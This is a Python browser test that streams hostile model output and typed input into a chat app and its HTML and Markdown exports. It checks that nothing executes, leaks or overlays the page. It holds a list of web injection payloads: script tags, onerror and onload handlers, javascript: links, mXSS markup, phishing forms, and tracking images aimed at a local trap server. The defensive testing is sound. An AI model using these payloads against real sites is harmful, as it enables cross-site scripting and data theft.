"""Hostile model output and hostile typing, through the real server into Chromium, and both exports.

A scripted OpenAI-compatible backend (tests/remote_server.FakeServer) on 127.0.0.1 streams payloads
in the thinking and in the answer to the app on a RemoteEngine; the same payloads are typed in the
question box and used as uploaded file names. Every URL in a payload points at a second local server
that counts what reaches it. In the chat and in each export (opened as a file:// page) we assert: no
element from the text has a fixed or absolute position, no form or input, no script ran
(`window.__pwned` stays undefined), nothing was fetched from the other server, and the hostile text
is visible as text. One browser for the module, one page reused.
"""
from __future__ import annotations

import re
import zipfile
from pathlib import Path
from urllib.parse import unquote

import markdown
import pytest
from PIL import Image

from model.remote.engine import RemoteEngine
from tests.remote_server import CountingServer, FakeServer, streamed_reply
from ui.page.handlers import ModelInfo
from ui.page.layout import build_app

from tests.helpers import ARGS, CHROMIUM
pytestmark = [pytest.mark.browser,
              pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Chromium is not installed")]



def payloads(trap: str) -> list[str]:
    return [
        '<div style="position:fixed;inset:0;z-index:9999;background:red">COVER</div>',
        f'<form action="{trap}/phish"><input type="password" name="p"><button>Log in</button></form>',
        f"![]({trap}/leak.png?conv=secret)",
        f"<img src={trap}/img.png>",
        "<script>window.__pwned = 'script'</script>",
        "<img src=x onerror=\"window.__pwned='onerror'\">",
        "[click me](javascript:window.__pwned='link')",
        "$\\href{javascript:window.__pwned='katex'}{katex link}$",
        "<b>unclosed bold",
        "unbalanced $$ x + y",
        "$$" + "x+" * 1500 + "1$$",
        f'<a href="{trap}/abs" style="position:absolute;top:0;left:0">ABS</a>',
        f"<iframe src={trap}/frame></iframe>",
        "<svg onload=\"window.__pwned='svg'\"><circle r=5></circle></svg>",
        f"<link rel=stylesheet href={trap}/style.css><style>body{{display:none}}</style>",
        "[ref]\n\n[ref]: javascript:window.__pwned='ref'",
        f"<math><mtext><table><mglyph><style><img src={trap}/mxss>",
        "<input autofocus onfocus=\"window.__pwned='focus'\">",
        f"<object data={trap}/object></object><video src={trap}/video></video>",
        "revenue was $120M and Q4 was $410M",
    ]


# What must be visible as text (innerText collapses whitespace; these have none to collapse).
VISIBLE = ['<div style="position:fixed', "<form action=", '<input type="password"', "<script>",
           "onerror=", "<b>unclosed bold", "unbalanced $$ x + y", "<iframe src=", "revenue was $120M"]

# `content`: where the text is drawn (the chat's message bodies, an export's <main>).
SCAN = """([root, content]) => {
  const placed = [], forms = [];
  for (const el of document.querySelectorAll(`${content} *`)) {
    const position = getComputedStyle(el).position;
    if (el.closest('.katex-mathml')) continue;  // KaTeX's clipped copy for screen readers
    if (position === 'fixed' || position === 'absolute') placed.push(el.outerHTML.slice(0, 120));
  }
  for (const el of document.querySelectorAll(['form', 'input', 'textarea', 'iframe', 'object', 'embed', 'video']
                                             .map(tag => `${content} ${tag}`).join(',')))
    forms.push(el.outerHTML.slice(0, 120));
  return {placed, forms, pwned: window.__pwned ?? null, text: document.querySelector(root).innerText};
}"""


FOREIGN: list[str] = []


@pytest.fixture(scope="module")
def trap():
    server = CountingServer()
    yield server
    server.httpd.shutdown()


@pytest.fixture(scope="module")
def app_url(trap, launch):
    thinking = "\n\n".join(payloads(trap.url)) + "\n\n" + "T" * 100_000
    answer = "\n\n".join(payloads(trap.url)) + "\n\n" + "A" * 100_000

    with FakeServer(streamed_reply(thinking, answer)) as fake:
        engine = RemoteEngine(fake.endpoint, model="fake", timeout_s=10)
        yield launch(build_app(engine, ModelInfo("hostile backend")))


@pytest.fixture(scope="module")
def page(app_url):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
        page = context.new_page()
        page.set_default_timeout(60_000)
        FOREIGN.clear()  # requests to any origin but the app's (and file:// pages)
        page.on("request", lambda request: FOREIGN.append(request.url)
                if not request.url.startswith((app_url, "file://", "data:")) else None)
        page.goto(app_url)
        page.wait_for_selector("#model-status:has-text('ready')")
        yield page
        browser.close()


def hostile_files(folder: Path) -> list[str]:
    names = ['<b>bold <img src=x onerror=alert(1)>.png', 'a "quoted" & <i>.png', "space name.png"]
    paths = []
    for name in names:
        path = folder / name
        Image.new("RGB", (900, 600), (200, 80, 40)).save(path)
        paths.append(str(path))
    return paths


def assert_safe(page, root: str, content: str, trap: CountingServer) -> str:
    found = page.evaluate(SCAN, [root, content])
    assert found["placed"] == [], found["placed"]
    assert found["forms"] == [], found["forms"]
    assert found["pwned"] is None
    assert trap.hits == [] and FOREIGN == []
    return found["text"]


def test_hostile_answer_question_and_files_in_the_chat_and_both_exports(page, trap, tmp_path):
    question = "\n\n".join(payloads(trap.url))
    page.locator("#question textarea").fill(question)
    page.set_input_files("#question input[type=file]", hostile_files(tmp_path))
    page.wait_for_function("() => document.querySelectorAll('#question img').length === 3")
    page.locator("#send-btn").click()
    page.wait_for_selector("#stats-line:has-text('token')", timeout=120_000)
    page.wait_for_selector("#export-html:not([disabled])")
    page.locator("#chat .thought-group [role=button]").first.click()  # open the finished thought
    page.wait_for_function("() => document.querySelector('#chat .thought-group').innerText.includes('COVER')")

    text = assert_safe(page, "#chat", "#chat .message-content", trap)
    for visible in VISIBLE:
        assert text.count(visible) >= 3, visible  # the question, the thinking, the answer
    assert page.locator("#chat .katex").count() >= 2  # maths still renders: the huge block, \href's
    assert page.locator("#chat .md a[href^='javascript']").count() == 0
    assert "window.__pwned" in text
    assert page.locator("#chat .message-content b").count() == 0  # the unclosed <b> made nothing bold
    links = page.evaluate("""() => [...document.querySelectorAll('#chat .message-content .md a[href]')]
        .map(a => [a.getAttribute('href'), a.target, a.rel])""")
    assert links and all(href.startswith(("http://", "https://")) and target == "_blank"
                         and set(rel.split()) >= {"noopener", "noreferrer"} for href, target, rel in links), links
    overflowing = page.evaluate("""() => [...document.querySelectorAll('#chat .katex-display, #chat pre')]
        .filter(el => el.getBoundingClientRect().width > el.closest('.message-content').getBoundingClientRect().width + 1)
        .length""")
    assert overflowing == 0  # the huge $$ block scrolls inside its bubble

    with page.expect_download() as download:
        page.locator("#export-html").click()
    exported = tmp_path / "export.html"
    download.value.save_as(exported)
    page_html = exported.read_text(encoding="utf-8")
    assert "Content-Security-Policy" in page_html and "default-src 'none'" in page_html
    assert len(page_html) < 2_000_000  # three 900x600 images as 512 px thumbnails, not originals

    with page.expect_download() as download:
        page.locator("#export-md").click()
    archive = tmp_path / "export.zip"
    download.value.save_as(archive)
    with zipfile.ZipFile(archive) as bundle:
        bundle.extractall(tmp_path / "md")
    transcript = (tmp_path / "md" / "transcript.md").read_text(encoding="utf-8")
    # A permissive Markdown viewer (raw HTML on, as Python-Markdown's default) must show it as text too.
    viewed = tmp_path / "md" / "viewed.html"
    viewed.write_text(f"<!doctype html><meta charset=utf-8><main>{markdown.markdown(transcript)}</main>",
                      encoding="utf-8")

    for path in (exported, viewed):
        page.goto(path.as_uri())
        text = assert_safe(page, "body", "main", trap)
        for visible in VISIBLE:
            assert visible in text, (path.name, visible)
        assert page.locator("main a[href^='javascript']").count() == 0
        if path == exported:  # (the stand-in viewer has no CSS of its own)
            assert page.evaluate("document.documentElement.scrollWidth") <= 1280  # the 100 KB lines wrap
    images = page.locator("main img")
    assert images.count() == 3 and all(images.nth(i).evaluate("img => img.naturalWidth > 0") for i in range(3))
    links = re.findall(r"!\[image \d\]\((images/[^)]*)\)", transcript)
    assert len(links) == 3 and not any(set(link) & set(' <>"') for link in links)  # URL-encoded
    assert all((tmp_path / "md" / unquote(link)).is_file() for link in links) and "%20" in "".join(links)
